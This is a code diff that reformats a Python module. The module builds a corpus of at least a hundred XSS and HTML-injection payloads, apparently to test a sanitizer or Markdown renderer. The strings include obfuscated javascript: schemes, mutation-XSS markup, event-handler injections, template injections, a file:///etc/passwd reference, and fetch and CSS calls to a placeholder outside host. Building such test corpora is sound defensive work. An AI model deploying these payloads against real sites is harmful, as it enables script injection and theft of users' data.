@@ -13,33 +13,76 @@ OUTSIDE = "https://outside.invalid"
 HARM = "window.__harm=1"
 ACTS = (HARM, f"fetch('{OUTSIDE}/x')", "alert(1)")
 
-_LOADING_TAGS = ("img src", "img srcset", "video src", "audio src", "iframe src", "embed src", "object data", "script src",
-                 "input type=image src", "source srcset", "track src", "link rel=stylesheet href", "image href", "frame src")
-_EVENTS = ("onerror", "onload", "onclick", "onfocus autofocus", "onmouseover", "onanimationstart", "ontoggle open",
-           "onbegin", "onpointerenter", "onbeforetoggle")
+_LOADING_TAGS = (
+    "img src",
+    "img srcset",
+    "video src",
+    "audio src",
+    "iframe src",
+    "embed src",
+    "object data",
+    "script src",
+    "input type=image src",
+    "source srcset",
+    "track src",
+    "link rel=stylesheet href",
+    "image href",
+    "frame src",
+)
+_EVENTS = (
+    "onerror",
+    "onload",
+    "onclick",
+    "onfocus autofocus",
+    "onmouseover",
+    "onanimationstart",
+    "ontoggle open",
+    "onbegin",
+    "onpointerenter",
+    "onbeforetoggle",
+)
 _EVENT_TAGS = ("img src=x", "svg", "details", "body", "math", "input", "marquee", "a href=#")
-_SCHEMES = ("javascript:{act}", "JaVaScRiPt:{act}", "java\tscript:{act}", "&#106;avascript:{act}", "javascript&colon;{act}",
-            "\x01javascript:{act}", "data:text/html,<script>{act}</script>", "data:text/html;base64,PHNjcmlwdD4x", "vbscript:{act}",
-            "//outside.invalid/x", "file:///etc/passwd", "blob:{act}", "jav&#x0A;ascript:{act}", "view-source:{act}")
-_LINKS = ("[words]({address})", "<{address}>", "[words]: {address}\n\n[words]", "![picture]({address})", "[![in]({address})]({address})",
-          '[words]({address} "onmouseover={act}")')
+_SCHEMES = (
+    "javascript:{act}",
+    "JaVaScRiPt:{act}",
+    "java\tscript:{act}",
+    "&#106;avascript:{act}",
+    "javascript&colon;{act}",
+    "\x01javascript:{act}",
+    "data:text/html,<script>{act}</script>",
+    "data:text/html;base64,PHNjcmlwdD4x",
+    "vbscript:{act}",
+    "//outside.invalid/x",
+    "file:///etc/passwd",
+    "blob:{act}",
+    "jav&#x0A;ascript:{act}",
+    "view-source:{act}",
+)
+_LINKS = (
+    "[words]({address})",
+    "<{address}>",
+    "[words]: {address}\n\n[words]",
+    "![picture]({address})",
+    "[![in]({address})]({address})",
+    '[words]({address} "onmouseover={act}")',
+)
 _MUTATIONS = (
-    "<noscript><p title=\"</noscript><img src=x onerror={act}>\">",
+    '<noscript><p title="</noscript><img src=x onerror={act}>">',
     "<math><mtext><table><mglyph><style><img src=x onerror={act}>",
-    "<svg></p><style><a id=\"</style><img src=x onerror={act}>\">",
+    '<svg></p><style><a id="</style><img src=x onerror={act}>">',
     "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={act}>",
     "<template><script>{act}</script></template>",
-    "<svg><foreignObject><iframe srcdoc=\"<script>parent.{act}</script>\"></foreignObject></svg>",
+    '<svg><foreignObject><iframe srcdoc="<script>parent.{act}</script>"></foreignObject></svg>',
     "<svg><animate attributeName=href values=javascript:{act} /><a id=x><text>y</text></a></svg>",
-    "<svg><use href=\"data:image/svg+xml,<svg id=x onload={act}>#x\"/></svg>",
+    '<svg><use href="data:image/svg+xml,<svg id=x onload={act}>#x"/></svg>',
     "<style>@import '{outside}/x.css'; *{{background:url({outside}/y)}}</style>",
     "<base href={outside}/><a href=x>y</a>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:{act}\">",
-    "<a href=\"javascript:{act}\">words</a>",
-    "<p style=\"background:url({outside}/z);animation:x\">words</p>",
+    '<meta http-equiv=refresh content="0;url=javascript:{act}">',
+    '<a href="javascript:{act}">words</a>',
+    '<p style="background:url({outside}/z);animation:x">words</p>',
     "<input name=attributes><input name=children><form id=location>",
     "<img name=getElementById><a id=cohort><a id=cohort name=client>",
-    "\"><script>{act}</script>",
+    '"><script>{act}</script>',
     "'-{act}-'",
     "`${{{act}}}`",
     "{{{{constructor.constructor('{act}')()}}}}",
@@ -53,16 +96,16 @@ _MUTATIONS = (
 )
 _MARKDOWN = (
     "```html\n<script>{act}</script>\n```",
-    "```\"><img src=x onerror={act}>\nx\n```",
+    '```"><img src=x onerror={act}>\nx\n```',
     "`<img src=x onerror={act}>`",
     "| <img src=x onerror={act}> | b |\n|---|---|\n| c | <script>{act}</script> |",
     "> <svg onload={act}>",
-    "- <iframe src=\"javascript:{act}\">",
+    '- <iframe src="javascript:{act}">',
     "# <script>{act}</script>",
     "@[<img src=x onerror={act}>](p-1)",
-    "@[name](\"onclick={act})",
-    "[x](https://ok.invalid/\"onmouseover=\"{act})",
-    "<https://ok.invalid/\"onclick={act}>",
+    '@[name]("onclick={act})',
+    '[x](https://ok.invalid/"onmouseover="{act})',
+    '<https://ok.invalid/"onclick={act}>',
     "&lt;script&gt;{act}&lt;/script&gt;",
     "\\<script>{act}\\</script>",
 )
@@ -95,5 +138,15 @@ def _all() -> list[str]:
 
 
 PAYLOADS = _all()
-NAMES = [text[:60] for text in ("<img src=x onerror=alert(1)>", "<script>window.__harm=1</script>", "\u202egnp.exe", "a\"onclick=\"alert(1)", "${alert(1)}", "<b>x</b>")]
+NAMES = [
+    text[:60]
+    for text in (
+        "<img src=x onerror=alert(1)>",
+        "<script>window.__harm=1</script>",
+        "\u202egnp.exe",
+        'a"onclick="alert(1)',
+        "${alert(1)}",
+        "<b>x</b>",
+    )
+]
 assert len(PAYLOADS) >= 100, "the corpus promises at least a hundred"
